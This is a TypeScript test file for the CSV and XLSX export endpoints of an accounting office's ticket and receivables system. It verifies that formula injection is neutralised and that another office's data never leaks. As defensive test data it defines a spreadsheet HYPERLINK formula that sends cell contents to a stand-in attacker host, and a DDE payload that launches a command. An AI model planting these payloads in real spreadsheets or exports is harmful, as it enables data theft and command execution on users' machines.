import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { beforeAll, describe, expect, it } from "vitest";
import type { DebtPage, Page, TicketRow } from "../../../shared/api.js";
import { DEBT_STATUS_INFO } from "../../../shared/finance.js";
import { STATUS_INFO } from "../../../shared/status.js";
import { createTicket, createUser, expectError, type Session, useTestApp } from "../../test/harness.js";
import { financeOffice, movimentar, otherClient, pay, plusDays, today } from "../finance/test-fixtures.js";

const ctx = useTestApp();
/** built once: every test only reads it */
let world: ReturnType<typeof scenario>;
beforeAll(() => {
  world = scenario();
  return world.then(() => undefined);
});

const HOSTILE_CLIENT = '=HYPERLINK("http://evil.example/?d="&A1;"Clique")';
const HOSTILE_SUBJECTS = ["+55 11 99999-0000 ligar", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", '=1+1; "aspas"'];

/** Office A with hostile names and a paid debt; office B with a marker that must never leak. */
async function scenario() {
  const a = await financeOffice(ctx, "Escritório Exporta");
  const hostile = await otherClient(a.staff, a.reg, HOSTILE_CLIENT);
  for (const subject of HOSTILE_SUBJECTS) await createTicket(a.staff, a.reg, { subject });
  await createTicket(a.staff, { ...a.reg, client: hostile.client }, { subject: "Balancete de março" });
  const moved = await movimentar(a.staff, a.ticket.id, {
    categoryId: a.honorarios.id,
    amountCents: 123_456,
    installments: 3,
    dueDate: plusDays(today(), -40),
  });
  const first = moved.debts[0];
  if (!first) throw new Error("no debt");
  await pay(a.staff, first.id, { amountCents: first.amountCents });
  await movimentar(a.staff, hostile.ticket.id, {
    categoryId: a.honorarios.id,
    description: HOSTILE_SUBJECTS[2],
  });

  const b = await financeOffice(ctx, "Escritório Vizinho");
  await createTicket(b.staff, b.reg, { subject: "Segredo do vizinho" });
  await movimentar(b.staff, b.ticket.id, { categoryId: b.honorarios.id, description: "Segredo do vizinho" });
  return { a, b, hostile };
}

async function download(s: Session, url: string) {
  const res = await s.get(url);
  if (res.statusCode !== 200) throw new Error(`${url}: ${res.statusCode} ${res.body}`);
  return res;
}

function parseCsv(body: Buffer): string[][] {
  const text = body.toString("utf8");
  expect(text.startsWith("\uFEFF")).toBe(true);
  return parse(text, { delimiter: ";", bom: true, relax_column_count: false }) as string[][];
}

async function parseXlsx(body: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ArrayBuffer);
  const sheet = wb.worksheets[0];
  if (!sheet) throw new Error("no sheet");
  return sheet;
}

const brDate = (iso: string) => iso.split("-").reverse().join("/");
const csvMoney = (cents: number) => `${Math.floor(cents / 100)},${String(cents % 100).padStart(2, "0")}`;
const safe = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);

describe("exportação da grade de atendimentos", () => {
  it("CSV: the list's rows in its order, pt-BR dialect, formulas neutralised, no other office", async () => {
    const { a } = await world;
    for (const query of ["sort=protocol&order=asc", "sort=requester&order=desc", "status=open&q=%2B55"]) {
      const list = (await download(a.staff, `/api/tickets?pageSize=200&${query}`)).json() as Page<TicketRow>;
      const res = await download(a.staff, `/api/tickets/export?format=csv&${query}`);
      expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8");
      expect(res.headers["content-disposition"]).toMatch(
        /^attachment; filename="atendimentos-\d{4}-\d\d-\d\d\.csv"$/,
      );
      const [header, ...rows] = parseCsv(res.rawPayload);
      expect(header).toEqual([
        "Protocolo",
        "Solicitante",
        "Assunto",
        "Responsável",
        "Serviço",
        "Valor do Serviço",
        "Débito em aberto",
        "Status",
        "Aberto em",
        "Atualizado em",
      ]);
      expect(rows.length).toBe(list.total);
      expect(rows.map((r) => r[0])).toEqual(list.items.map((t) => t.protocol));
      for (const [i, t] of list.items.entries()) {
        const r = rows[i] as string[];
        expect(r[1]).toBe(safe(t.requester.name));
        expect(r[2]).toBe(safe(t.subject));
        expect(r[5]).toBe(csvMoney(t.amountCents));
        expect(r[6]).toBe(csvMoney(t.openDebtCents));
        expect(r[7]).toBe(STATUS_INFO[t.status].label);
        expect(r[8]).toMatch(/^\d\d\/\d\d\/\d{4} \d\d:\d\d$/);
      }
    }
    const all = parseCsv((await download(a.staff, "/api/tickets/export")).rawPayload);
    const text = all.flat().join("\n");
    expect(text).toContain(`'${HOSTILE_CLIENT}`);
    for (const s of HOSTILE_SUBJECTS) expect(text).toContain(`'${s}`);
    for (const cell of all.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(text).not.toContain("vizinho");
    expect(all.length - 1).toBe(7);
  });

  it("XLSX: number, date and text cells, R$ format, same rows as the list", async () => {
    const { a } = await world;
    const list = (
      await download(a.staff, "/api/tickets?pageSize=200&sort=amount&order=desc")
    ).json() as Page<TicketRow>;
    const res = await download(a.staff, "/api/tickets/export?format=xlsx&sort=amount&order=desc");
    expect(res.headers["content-type"]).toBe(
      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    );
    const sheet = await parseXlsx(res.rawPayload);
    expect(sheet.name).toBe("Atendimentos");
    expect(sheet.getRow(1).getCell(1).value).toBe("Protocolo");
    expect(sheet.actualRowCount - 1).toBe(list.total);
    for (const [i, t] of list.items.entries()) {
      const row = sheet.getRow(i + 2);
      expect(row.getCell(1).value).toBe(t.protocol);
      expect(row.getCell(2).value).toBe(safe(t.requester.name));
      expect(row.getCell(3).value).toBe(safe(t.subject));
      expect(row.getCell(3).type).toBe(ExcelJS.ValueType.String);
      expect(row.getCell(6).value).toBe(t.amountCents / 100);
      expect(row.getCell(6).numFmt).toContain('"R$"');
      expect(row.getCell(9).value).toBeInstanceOf(Date);
      expect(row.getCell(9).numFmt).toBe("dd/mm/yyyy hh:mm");
    }
    const texts: string[] = [];
    sheet.eachRow((row) => {
      row.eachCell((c) => {
        expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
        texts.push(String(c.value));
      });
    });
    expect(texts.join("\n")).not.toContain("vizinho");
  });

  it("refuses bad input in pt-BR and keeps staff-only", async () => {
    const { a, b } = await world;
    expectError(await a.staff.get("/api/tickets/export?format=pdf"), 400, "validation_failed", "format");
    expectError(
      await a.staff.get("/api/tickets/export?status=fechado"),
      400,
      "validation_failed",
      "status.0",
    );
    expectError(
      await a.staff.get("/api/tickets/export?sort=senha"),
      400,
      "validation_failed",
      "sort",
      "Ordenação inválida",
    );
    expectError(
      await a.staff.get("/api/tickets/export?openedFrom=2026-02-30"),
      400,
      "validation_failed",
      "openedFrom",
    );
    // another office's client as a filter finds nothing: only the header
    const foreign = parseCsv(
      (await download(a.staff, `/api/tickets/export?requesterId=${b.reg.client.id}`)).rawPayload,
    );
    expect(foreign.length).toBe(1);
    const { session: client } = await createUser(ctx, a.admin, "client");
    expectError(await client.get("/api/tickets/export"), 403, "forbidden");
    expectError(await client.get("/api/finance/debts/export"), 403, "forbidden");
    const anon = await ctx.app.inject({ method: "GET", url: "/api/tickets/export" });
    expect(anon.statusCode).toBe(401);
  });
});

describe("exportação de Contas a receber", () => {
  it("CSV and XLSX match the list with its filters; other office never appears", async () => {
    const { a, b } = await world;
    for (const query of ["", "status=overdue", "status=paid,open&sort=amount&order=desc", "q=SUM"]) {
      const list = (await download(a.staff, `/api/finance/debts?pageSize=200&${query}`)).json() as DebtPage;
      const [header, ...rows] = parseCsv(
        (await download(a.staff, `/api/finance/debts/export?format=csv&${query}`)).rawPayload,
      );
      expect(header).toEqual([
        "Vencimento",
        "Cliente",
        "Descrição",
        "Parcela",
        "Categoria",
        "Atendimento",
        "Valor",
        "Pago",
        "Saldo",
        "Status",
      ]);
      expect(rows.length).toBe(list.total);
      for (const [i, d] of list.items.entries()) {
        const r = rows[i] as string[];
        expect(r[0]).toBe(brDate(d.dueDate));
        expect(r[1]).toBe(safe(d.client.name));
        expect(r[2]).toBe(safe(d.description));
        expect(r[6]).toBe(csvMoney(d.amountCents));
        expect(r[7]).toBe(csvMoney(d.paidCents));
        expect(r[8]).toBe(csvMoney(d.balanceCents));
        expect(r[9]).toBe(DEBT_STATUS_INFO[d.status].label);
      }
      expect(rows.flat().join("\n")).not.toContain("vizinho");

      const sheet = await parseXlsx(
        (await download(a.staff, `/api/finance/debts/export?format=xlsx&${query}`)).rawPayload,
      );
      expect(sheet.actualRowCount - 1).toBe(list.total);
      for (const [i, d] of list.items.entries()) {
        const row = sheet.getRow(i + 2);
        expect((row.getCell(1).value as Date).toISOString().slice(0, 10)).toBe(d.dueDate);
        expect(row.getCell(1).numFmt).toBe("dd/mm/yyyy");
        expect(row.getCell(7).value).toBe(d.amountCents / 100);
        expect(row.getCell(9).value).toBe(d.balanceCents / 100);
        expect(row.getCell(9).numFmt).toContain('"R$"');
      }
    }
    const overdue = (await download(a.staff, "/api/finance/debts?status=overdue")).json() as DebtPage;
    expect(overdue.total).toBeGreaterThan(0);
    expectError(
      await a.staff.get("/api/finance/debts/export?dueFrom=2026-05-10&dueTo=2026-05-01"),
      400,
      "validation_failed",
      "dueTo",
      "A data final deve ser igual ou posterior à inicial",
    );
    expectError(
      await a.staff.get("/api/finance/debts/export?format=ods"),
      400,
      "validation_failed",
      "format",
    );
    const foreign = parseCsv(
      (await download(a.staff, `/api/finance/debts/export?clientId=${b.reg.client.id}`)).rawPayload,
    );
    expect(foreign.length).toBe(1);
  });
});
